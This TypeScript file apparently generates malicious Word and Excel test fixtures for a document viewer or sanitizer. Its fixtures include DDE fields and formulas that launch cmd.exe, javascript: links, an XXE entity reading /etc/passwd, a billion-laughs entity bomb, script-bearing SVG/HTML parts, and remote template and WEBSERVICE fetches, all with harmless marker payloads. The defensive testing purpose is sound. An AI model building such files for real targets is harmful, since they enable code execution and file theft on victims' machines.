import { docx, link, OFFICE, paragraph, picture, xlsx, XML } from '../files/office-files.ts'
import type { Relation } from '../files/office-files.ts'
import { utf8 } from '../files/source-file.ts'
import { writeZip } from '../files/zip-writer.ts'
import { page, scriptSvg } from './markup-files.ts'
import { elsewhere, payload } from './payload.ts'

const outside = (id: string, type: string, target: string): Relation => ({ id, type, target, external: true })

const part = (name: string, text: string | Uint8Array) => ({
  name,
  data: typeof text === 'string' ? utf8(text) : text,
})

const field = (code: string, shown: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r>` +
  `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

/** Whole documents of other kinds that Word would take in. */
export const chunksDocx = (): Uint8Array =>
  docx(
    paragraph('Letter with a page inside') +
      '<w:altChunk r:id="rId2"/><w:altChunk r:id="rId3"/><w:subDoc r:id="rId4"/>',
    [
      { id: 'rId2', type: 'aFChunk', target: 'chunk.html' },
      outside('rId3', 'aFChunk', elsewhere('chunk.html')),
      outside('rId4', 'subDocument', elsewhere('sub.docx')),
    ],
    [part('word/chunk.html', page('altchunk'))],
  )

/** A template, a frame, an object, a font and a style sheet from elsewhere. */
export const remoteDocx = (): Uint8Array =>
  docx(
    paragraph('Letter that lives elsewhere') +
      picture('r:link="rId3"') +
      `<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" r:id="rId4"/></w:object></w:r></w:p>`,
    [
      outside('rId2', 'attachedTemplate', elsewhere('a.dotm')),
      outside('rId3', 'image', elsewhere('a.png')),
      outside('rId4', 'oleObject', elsewhere('a.rtf')),
      outside('rId5', 'frame', elsewhere('a.html')),
      outside('rId6', 'styles', elsewhere('styles.xml')),
    ],
    [
      part(
        'word/settings.xml',
        `${XML}<w:settings xmlns:w="x"><w:attachedTemplate r:id="rId2"/></w:settings>`,
      ),
    ],
  )

/** Links that run script, as relations and as fields, and fields that start programs. */
export const linksDocx = (): Uint8Array =>
  docx(
    paragraph('Letter with links') +
      link('rId2', 'Relation') +
      field(`HYPERLINK "javascript:${payload('docx-field')}"`, 'Field') +
      field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"', 'Program') +
      field(`INCLUDEPICTURE "${elsewhere('field.png')}"`, 'Picture') +
      paragraph('&lt;/p&gt;&lt;script&gt;globalThis.deskPayload=1&lt;/script&gt;') +
      `<w:p><w:bookmarkStart w:id="0" w:name="&quot;&gt;&lt;img src=x onerror=deskPayload=1&gt;"/><w:r><w:t>Bookmark</w:t></w:r></w:p>`,
    [outside('rId2', 'hyperlink', `javascript:${payload('docx-link')}`)],
  )

/** Pictures that are drawings with script, and pages. */
export const picturesDocx = (): Uint8Array =>
  docx(
    paragraph('Letter with live pictures') + picture('r:embed="rId2"') + picture('r:embed="rId3"'),
    [
      { id: 'rId2', type: 'image', target: 'media/a.svg' },
      { id: 'rId3', type: 'image', target: 'media/b.html' },
    ],
    [part('word/media/a.svg', scriptSvg('docx-svg')), part('word/media/b.html', page('docx-html'))],
  )

/** Entities that unfold, and one from a file, in the text itself. */
export function entitiesDocx(): Uint8Array {
  const laughs = Array.from(
    { length: 9 },
    (_, level) => `<!ENTITY l${level} "${level === 0 ? 'lol' : `&l${level - 1};`.repeat(10)}">`,
  )
  return writeZip([
    part(
      '[Content_Types].xml',
      `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    ),
    part(
      '_rels/.rels',
      `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    ),
    part(
      'word/document.xml',
      `<?xml version="1.0"?><!DOCTYPE w [${laughs.join('')}<!ENTITY f SYSTEM "file:///etc/passwd">]>` +
        `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Laughs &l8; &f;</w:t></w:r></w:p></w:body></w:document>`,
    ),
  ])
}

const MACROS = 'application/vnd.ms-word.document.macroEnabled.main+xml'

/** A document with macros, which says so. */
export const macrosDocm = (): Uint8Array =>
  writeZip([
    part(
      '[Content_Types].xml',
      `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${MACROS}"/></Types>`,
    ),
    part('word/document.xml', `${XML}<w:document/>`),
    part('word/vbaProject.bin', Buffer.alloc(500, 7)),
  ])

const SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'

/** Formulas that fetch, links that run script, another workbook, and a program behind a cell. */
export const linkedXlsx = (): Uint8Array =>
  xlsx(
    [
      {
        name: 'Ledger',
        data: utf8(
          `${XML}<worksheet ${SHEET} xmlns:r="${OFFICE}"><sheetData><row r="1">` +
            `<c r="A1" t="str"><f>HYPERLINK("javascript:alert(1)","Click")</f><v>Formula with a link</v></c>` +
            `<c r="B1" t="str"><f>WEBSERVICE("${elsewhere('w')}")</f><v>Web service</v></c>` +
            `<c r="C1" t="str"><f>cmd|' /C calc'!A0</f><v>Program</v></c>` +
            `<c r="D1" t="str"><f>[1]Sheet1!A1</f><v>Elsewhere</v></c>` +
            `<c r="E1" t="inlineStr"><is><t>&lt;img src=x onerror=deskPayload=1&gt;</t></is></c></row></sheetData>` +
            `<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks></worksheet>`,
        ),
      },
    ],
    [
      part(
        'xl/worksheets/_rels/sheet1.xml.rels',
        `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${OFFICE}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/></Relationships>`,
      ),
      part(
        'xl/externalLinks/externalLink1.xml',
        `${XML}<externalLink ${SHEET}><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>`,
      ),
    ],
  )

/** Says it reaches the last row and column there can be. */
export const vastXlsx = (): Uint8Array =>
  xlsx([
    {
      name: 'Vast',
      data: utf8(
        `${XML}<worksheet ${SHEET}><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>First cell</t></is></c></row>` +
          `<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>Last cell</t></is></c></row></sheetData></worksheet>`,
      ),
    },
  ])
